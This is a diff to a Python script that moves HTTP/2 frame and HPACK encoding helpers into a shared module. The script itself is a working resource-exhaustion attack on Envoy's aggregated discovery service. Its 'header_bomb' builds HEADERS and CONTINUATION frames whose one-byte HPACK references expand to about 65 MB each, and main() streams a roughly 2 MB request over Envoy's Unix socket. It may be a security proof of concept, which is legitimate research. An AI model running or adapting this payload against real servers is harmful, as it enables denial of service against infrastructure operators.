@@ -7,41 +7,21 @@ import sys
 import threading
 import time
 
+from http2_bytes import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, OPENING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
+                         Frames, frame, literal, text)
+
 ADS = b"/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"
 
 
-def frame(kind, flags, stream, payload):
-    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
-
-
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
-
-
-def prefixed(number, bits, first):
-    """RFC 7541 §5.1."""
-    most = (1 << bits) - 1
-    if number < most:
-        return bytes([first | number])
-    out, number = [first | most], number - most
-    while number >= 128:
-        out.append(number % 128 + 128)
-        number //= 128
-    return bytes([*out, number])
-
-
-def literal(name, value, remembered=False):
-    return (b"\x40" if remembered else b"\x00") + prefixed(len(name), 7, 0) + name + prefixed(len(value), 7, 0) + value
-
-
 def call_head():
-    return b"\x83\x86\x04" + prefixed(len(ADS), 7, 0) + ADS + b"\x01\x01x"
+    return b"\x83\x86\x04" + text(ADS) + b"\x01" + text(b"x")
 
 
 def header_bomb(continuations):
     """A few KB that unpack to 65 MB for each frame: references of one byte to a field of 4000 bytes."""
     block = call_head() + literal(b"a", b"v" * 4000, True)
-    out = PREFACE + frame(1, 0, 1, block + b"\xbe" * (16384 - len(block)))
-    return out + b"".join(frame(9, 0, 1, b"\xbe" * 16384) for _ in range(continuations))
+    out = OPENING + frame(HEADERS, 0, 1, block + b"\xbe" * (16384 - len(block)))
+    return out + b"".join(frame(CONTINUATION, 0, 1, b"\xbe" * 16384) for _ in range(continuations))
 
 
 def varint(number):
@@ -71,28 +51,22 @@ class Window:
         threading.Thread(target=self.read, daemon=True).start()
 
     def read(self):
-        heard = b""
-        while data := self.connection.recv(65536):
-            heard += data
-            while len(heard) >= 9 and len(heard) >= 9 + int.from_bytes(heard[:3], "big"):
-                size = int.from_bytes(heard[:3], "big")
-                kind, flags, stream, payload = heard[3], heard[4], int.from_bytes(heard[5:9], "big"), heard[9:9 + size]
-                heard = heard[9 + size:]
-                self.take(kind, flags, stream, payload)
+        for kind, flags, stream, payload in Frames(self.connection):
+            self.take(kind, flags, stream, payload)
         with self.changed:
             self.closed = True
             self.changed.notify()
 
     def take(self, kind, flags, stream, payload):
         with self.changed:
-            if kind == 8:
+            if kind == WINDOW_UPDATE:
                 self.left[0 if stream == 0 else 1] += int.from_bytes(payload, "big")
-            elif kind == 4 and not flags & 1:
+            elif kind == SETTINGS and not flags & ACK:
                 for at in range(0, len(payload), 6):
                     if payload[at:at + 2] == b"\0\4":
                         self.left[1] += int.from_bytes(payload[at + 2:at + 6], "big") - 65535
-                self.connection.sendall(frame(4, 1, 0, b""))
-            elif kind in (3, 7) or (kind == 1 and flags & 1):
+                self.connection.sendall(frame(SETTINGS, ACK, 0))
+            elif kind in (RST_STREAM, GOAWAY) or (kind == HEADERS and flags & END_STREAM):
                 self.closed = True
             self.changed.notify()
 
@@ -110,12 +84,12 @@ def main():
     connection = socket.socket(socket.AF_UNIX)
     connection.connect(cluster["endpoint"]["address"]["pipe"]["path"])
     head = call_head() + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
-    connection.sendall(PREFACE + frame(1, 4, 1, head))
+    connection.sendall(OPENING + frame(HEADERS, END_HEADERS, 1, head))
     window, data = Window(connection), names_request(bootstrap["node"]["id"].encode(), 2_000_000)
     print("sending", len(data), "bytes", flush=True)
     try:
         while data and (size := window.take_some(len(data))):
-            connection.sendall(frame(0, 0, 1, data[:size]))
+            connection.sendall(frame(DATA, 0, 1, data[:size]))
             data = data[size:]
     except OSError as error:
         print("ended:", error, flush=True)
